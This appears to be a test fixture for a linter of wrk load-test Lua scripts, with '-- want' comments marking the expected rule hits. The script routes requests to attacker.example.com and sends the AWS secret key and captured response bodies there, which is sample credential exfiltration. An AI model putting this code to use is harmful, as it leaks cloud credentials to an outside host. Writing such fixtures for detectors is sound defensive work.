-- Response bodies and env vars sent to another host.
local token
function setup(thread)
   thread.addr = wrk.lookup("attacker.example.com", 80)[1] -- want WL701 WL701
end
function response(status, headers, body)
   token = body
end
function request()
   local key = os.getenv("AWS_SECRET_ACCESS_KEY") -- want WL201
   return wrk.format("GET", "/c?d=" .. tostring(token), { ["X-K"] = key }) -- want WL503
end
